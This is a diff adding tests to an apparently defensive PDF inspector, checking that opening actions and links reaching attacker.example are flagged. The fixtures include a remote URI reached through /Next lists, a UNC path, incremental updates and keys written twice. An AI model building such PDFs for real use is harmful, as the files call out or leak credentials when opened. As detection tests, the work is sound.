@@ -5,6 +5,7 @@ import {
   buildPdf,
   directRootPdf,
   escapeNames,
+  incrementalUpdate,
   linkAnnotations,
   pageObjects,
   packedUnderAnotherNumberPdf,
@@ -358,5 +359,76 @@ describe('remote and indirect actions, class by class', () => {
       ]);
       expect(await findings(pdf)).toEqual({ codes: [], features: [], warnings: [] });
     }
+  });
+});
+
+describe('an opening action’s /Next list written by reference', () => {
+  const opening = (list: string, packed: number[] = []) =>
+    buildPdf(
+      [
+        ...pageObjects('/OpenAction 6 0 R'),
+        { num: 6, body: '<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>' },
+        { num: 7, body: list },
+        { num: 8, body: '<< /S /URI /URI (http://attacker.example/t) >>' },
+        { num: 9, body: '<< /S /GoTo /D [3 0 R /FitH 0] >>' },
+      ],
+      { packed },
+    );
+
+  it('refuses a list by reference whose action calls out, in the file or packed', async () => {
+    for (const packed of [[], [6, 7, 8]])
+      expect(await findings(opening('[9 0 R 8 0 R]', packed))).toMatchObject({
+        codes: ['PDF_ACTION'],
+        features: ['/OpenAction /URI'],
+      });
+    expect(await findings(opening('[<< /S /URI /URI (http://attacker.example/t) >>]'))).toMatchObject({
+      codes: ['PDF_ACTION'],
+    });
+  });
+
+  it('refuses a list met first as an older catalog’s opening destination, then under the newer one’s /Next', async () => {
+    const base = buildClassicPdf([
+      ...pageObjects('/OpenAction 7 0 R'),
+      { num: 7, body: '[8 0 R]' },
+      { num: 8, body: '<< /S /URI /URI (http://attacker.example/t) >>' },
+    ]);
+    const next = pageObjects('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>')[0] as PdfObj;
+    expect(codes(await inspect(base, 'pdf'))).toEqual([]);
+    expect(codes(await inspect(incrementalUpdate(base, [next]), 'pdf'))).toEqual(['PDF_ACTION']);
+  });
+
+  it('keeps a list by reference that only goes to places VALID, and an opening destination by reference', async () => {
+    expect(codes(await inspect(opening('[9 0 R]'), 'pdf'))).toEqual([]);
+    const destination = buildPdf([...pageObjects('/OpenAction 6 0 R'), { num: 6, body: '[3 0 R /Fit]' }]);
+    expect(codes(await inspect(destination, 'pdf'))).toEqual([]);
+  });
+});
+
+describe('a key written twice in one dictionary', () => {
+  const UNC_URI = '(\\\\\\\\attacker.example\\\\s\\\\x)';
+
+  it('judges every value, as a reader that keeps the first would read it', async () => {
+    const firstUri = '/OpenAction << /S /URI /URI (http://attacker.example/t) /S /GoTo /D [3 0 R /Fit] >>';
+    expect(await findings(buildClassicPdf(pageObjects(firstUri)))).toMatchObject({
+      codes: ['PDF_ACTION'],
+      features: ['/OpenAction /S (written twice)'],
+    });
+    const twiceOpening = '/OpenAction << /S /URI /URI (http://attacker.example/t) >> /OpenAction [3 0 R /Fit]';
+    expect(await findings(buildClassicPdf(pageObjects(twiceOpening)))).toMatchObject({
+      codes: ['PDF_ACTION'],
+      features: ['/OpenAction /URI'],
+    });
+    const link = `<< /S /URI /URI ${UNC_URI} /URI (https://www.miit.gov.cn/) >>`;
+    expect(codes(await inspect(buildPdf(linkAnnotations(link)), 'pdf'))).toEqual(['PDF_ACTION']);
+    const spec = buildClassicPdf([
+      ...linkAnnotations('<< /S /GoToR /F 9 0 R /D [0 /Fit] >>'),
+      { num: 9, body: `<< /Type /Filespec /F ${UNC_URI} /F (annex.pdf) >>` },
+    ]);
+    expect(codes(await inspect(spec, 'pdf'))).toEqual(['PDF_ACTION']);
+  });
+
+  it('keeps a harmless key written twice VALID', async () => {
+    const pdf = buildClassicPdf(pageObjects('/PageMode /UseNone /PageMode /UseOutlines /OpenAction [3 0 R /Fit]'));
+    expect(codes(await inspect(pdf, 'pdf'))).toEqual([]);
   });
 });
